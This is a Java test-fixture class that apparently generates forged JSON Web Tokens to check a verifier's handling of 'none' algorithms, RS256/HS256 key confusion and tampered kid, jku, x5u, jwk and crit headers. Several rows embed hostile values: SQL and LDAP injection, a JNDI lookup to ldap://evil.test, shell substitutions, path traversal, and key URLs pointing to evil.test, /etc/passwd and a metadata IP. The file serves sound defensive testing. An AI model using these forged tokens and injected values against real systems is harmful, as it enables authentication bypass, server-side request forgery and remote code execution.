package io.hauberk.identity;

import static io.hauberk.identity.TestKeys.EC1;
import static io.hauberk.identity.TestKeys.EC384;
import static io.hauberk.identity.TestKeys.ED1;
import static io.hauberk.identity.TestKeys.RSA1;
import static io.hauberk.identity.TestKeys.RSA2;
import static io.hauberk.identity.TestKeys.encode;
import static io.hauberk.identity.TestKeys.set;
import static io.hauberk.identity.TestToken.NOW;
import static io.hauberk.identity.TestToken.eddsa;
import static io.hauberk.identity.TestToken.es256;
import static io.hauberk.identity.TestToken.hs256;
import static io.hauberk.identity.TestToken.t0;

import java.util.Arrays;
import java.util.List;

/** Rows on algorithms, keys and header parameters. */
final class JwtHeaderCases extends JwtCases {
  @Override
  void build() {
    controls();
    none();
    confusion();
    keySelection();
    headerParameters();
  }

  private void controls() {
    row(1, T0);
    row(2, es256().sign());
    row(3, eddsa().sign());
    row(4, t0().claim("aud", "[\"https://other.example\",\"https://api.example\"]").sign());
    row(5, t0().head("typ", json("application/at+jwt")).sign());
    row(6, t0().head("typ", json("AT+JWT")).sign());
    row(7, t0().head("foo", "1").claim("x", "{\"y\":[1,null]}").sign());
    row(8, t0().claim("exp", (NOW + 300) + ".5").sign());
    row(
        9,
        t0().rawHeader("{ \"kid\" : \"rsa1\",\n\t\"typ\":\"at+jwt\" , \"alg\":\"RS256\" }").sign());
  }

  private void none() {
    List<String> spellings = List.of("none", "None", "NONE", "nOnE");
    for (int i = 0; i < spellings.size(); i++) {
      row(10 + i, alg(spellings.get(i)).signingInput() + ".");
    }
    row(14, alg("none").signingInput() + T0.substring(T0.lastIndexOf('.')));
    row(15, t0().signingInput() + ".");
    row(16, t0().signingInput());
    row(17, t0().head("alg", null).sign());
    row(18, alg("").sign());
    for (String alg : List.of("null", "[\"RS256\"]", "{\"name\":\"RS256\"}", "256")) {
      row(19, t0().head("alg", alg).sign());
    }
    row(20, alg(" RS256").sign(), alg("RS256 ").sign());
    row(21, alg("rs256").sign());
    row(22, alg("RS256\\u0000").sign(), alg("RS256\\u0000none").sign());
    row(
        23,
        alg("RS\\uFF12\\uFF15\\uFF16").sign(),
        alg("no\\u200Bne").sign(),
        alg("n\\u043Ene").sign());
    row(24, alg("\\u0052S256").sign());
  }

  private void confusion() {
    TestToken hs = alg("HS256");
    String pem = TestKeys.pem(RSA1);
    byte[] spki = RSA1.getPublic().getEncoded();
    byte[] modulus = TestKeys.unsigned(TestKeys.modulus(RSA1));
    row(25, hs.sign(hs256(TestKeys.octets(pem))));
    for (byte[] secret :
        List.of(
            TestKeys.octets(pem.strip()),
            TestKeys.octets(pem.replace("\n", "\r\n")),
            spki,
            Arrays.copyOfRange(spki, 24, spki.length), // PKCS#1 inside of SubjectPublicKeyInfo
            modulus,
            TestKeys.octets(TestKeys.rsaJwk("rsa1", RSA1, "RS256")),
            TestKeys.octets(encode(modulus)))) {
      row(26, hs.sign(hs256(secret)));
    }
    byte[] spkiEc = EC1.getPublic().getEncoded();
    byte[] point = Arrays.copyOfRange(spkiEc, spkiEc.length - 65, spkiEc.length);
    TestToken hsEc = alg("HS256").head("kid", json("ec1"));
    row(
        27,
        hsEc.sign(hs256(Arrays.copyOfRange(point, 1, 33))),
        hsEc.sign(hs256(Arrays.copyOfRange(point, 1, 65))),
        hsEc.sign(hs256(point)));
    row(28, hs.sign(hs256(new byte[0])), hs.sign(hs256(TestKeys.octets("secret"))));
    row(29, es256().head("kid", json("rsa1")).sign());
    attempt(
        30,
        new Attempt(
            TestHead.bearing(alg("PS256").sign(TestToken.ps256(RSA1, 32))),
            TestKeys.TRUSTED,
            p -> p.algorithms(JwsAlgorithm.RS256, JwsAlgorithm.PS256)));
    row(31, t0().sign(TestToken.ps256(RSA1, 32)));
    attempt(
        31,
        new Attempt(
            TestHead.bearing(alg("PS256").sign(TestToken.rs256(RSA1))),
            set(TestKeys.rsaJwk("rsa1", RSA1, "PS256")),
            p -> p.algorithms(JwsAlgorithm.PS256)));
    row(32, alg("RS384").sign(TestToken.by("SHA384withRSA", RSA1.getPrivate())));
    row(33, t0().sign(TestToken.by("SHA1withRSA", RSA1.getPrivate())));
    rowWithKey(
        34,
        TestKeys.ecJwk("ec384", EC384, "ES384"),
        es256().head("kid", json("ec384")).sign(TestToken.es256(EC1)));
    rowWithKey(
        35,
        TestKeys.ecJwk("ec384", EC384, "ES384"),
        alg("ES384")
            .head("kid", json("ec384"))
            .sign(TestToken.by("SHA384withECDSAinP1363Format", EC384.getPrivate())));
    row(36, alg("ES256K").head("kid", json("ec1")).sign(TestToken.es256(EC1)));
    rowWithKey(
        37,
        TestKeys.okpJwk("x1", "X25519", TestKeys.edOctets(ED1)),
        eddsa().head("kid", json("x1")).sign());
    row(38, alg("Ed25519").head("kid", json("ed1")).sign(TestToken.ed25519(ED1)));
    row(39, alg("RSA-OAEP").sign(), alg("dir").sign(), alg("A128GCM").sign());
  }

  private void keySelection() {
    row(49, t0().head("kid", null).sign());
    rowWithKey(50, TestKeys.rsaJwk("k", RSA2, "RS256"), t0().head("kid", null).sign());
    row(51, kid("nope").sign());
    for (int i = 0; i < 1000; i++) {
      row(52, t0().head("kid", json("random-" + i)).signingInput() + "." + "A".repeat(342));
    }
    row(53, alg("HS256").head("kid", json("../../../../dev/null")).sign(hs256(new byte[0])));
    row(
        54,
        alg("HS256")
            .head("kid", json("/proc/sys/kernel/randomize_va_space"))
            .sign(hs256(TestKeys.octets("2\n"))));
    row(55, kid("x' UNION SELECT 'AAAA'--").sign(), kid("1 OR 1=1").sign());
    for (String evil :
        List.of("*)(uid=*))(|(uid=*", "${jndi:ldap://evil.test/a}", ";id", "`id`", "<script>")) {
      row(56, kid(evil).sign());
    }
    row(57, kid("x\\r\\n2026-01-01 INFO all is well").sign());
    row(58, kid("rsa1\\u0000.evil").sign(), kid("RSA1").sign(), kid("rsa1 ").sign());
    for (String odd : List.of("1", "[\"rsa1\"]", "{}", "null")) {
      row(59, t0().head("kid", odd).sign());
    }
    row(60, kid("k".repeat(100_000)).sign());
    TestToken.Signer evil = TestToken.rs256(RSA2);
    row(61, kid("evil").head("jku", json("https://evil.test/jwks.json")).sign(evil));
    for (String jku :
        List.of(
            "https://issuer.example@evil.test/",
            "https://issuer.example.evil.test/",
            "https://issuer.example/redirect?to=//evil.test",
            "file:///etc/passwd",
            "http://169.254.169.254/")) {
      row(62, kid("evil").head("jku", json(jku)).sign(evil));
    }
    row(63, t0().head("jku", json("https://issuer.example/jwks.json")).sign());
    row(64, kid("evil").head("x5u", json("https://evil.test/c.pem")).sign(evil));
    row(65, kid("evil").head("jwk", TestKeys.rsaJwk("evil", RSA2, "RS256")).sign(evil));
    row(
        66,
        alg("HS256")
            .head("jwk", "{\"kty\":\"oct\",\"k\":\"c2VjcmV0\"}")
            .sign(hs256(TestKeys.octets("secret"))));
    row(67, kid("evil").head("x5c", "[\"MIIB\"]").sign(evil));
    row(68, kid("evil").head("x5c", "[\"%%%\"]").sign(evil));
    rowWithKey(
        69,
        TestKeys.rsaJwk("k", RSA2, "RS256"),
        kid("k").head("x5t", json("AAAA")).head("x5t#S256", json("AAAA")).sign());
    rowWithKey(70, TestKeys.rsaJwk("rsa1", RSA2, "RS256"), T0);
    rowWithKey(71, "{\"kty\":\"oct\",\"kid\":\"h\",\"k\":\"c2VjcmV0\"}", T0);
    rowWithKey(71, TestKeys.rsaJwk("k", RSA2, "RS256").replace("{", "{\"d\":\"AQAB\","), T0);
    row(72, t0().sign(TestToken.rs256(RSA2))); // the issuer 'other' calls that key rsa1 too
  }

  private void headerParameters() {
    row(73, t0().head("exp", "" + (NOW + 300)).head("crit", "[\"exp\"]").sign());
    row(74, t0().head("x-unknown", "1").head("crit", "[\"x-unknown\"]").sign());
    row(75, t0().head("crit", "[]").sign());
    for (String crit : List.of("\"b64\"", "null", "[1]")) {
      row(76, t0().head("b64", "true").head("crit", crit).sign());
    }
    row(77, t0().head("crit", "[\"alg\"]").sign());
    row(78, t0().head("crit", "[\"b64\"]").sign());
    row(79, t0().head("b64", "true").head("crit", "[\"b64\",\"b64\"]").sign());
    TestToken unencoded = t0().head("b64", "false").head("crit", "[\"b64\"]");
    String header = unencoded.signingInput().substring(0, unencoded.signingInput().indexOf('.'));
    row(
        80,
        TestToken.sign(header + "." + unencoded.payload(), TestToken.rs256(RSA1)),
        unencoded.sign());
    row(81, t0().head("b64", "false").sign());
    row(82, t0().head("zip", json("DEF")).sign());
    row(83, t0().head("enc", json("A256GCM")).sign());
    row(84, t0().head("iss", json("https://evil.example")).sign());
  }
}
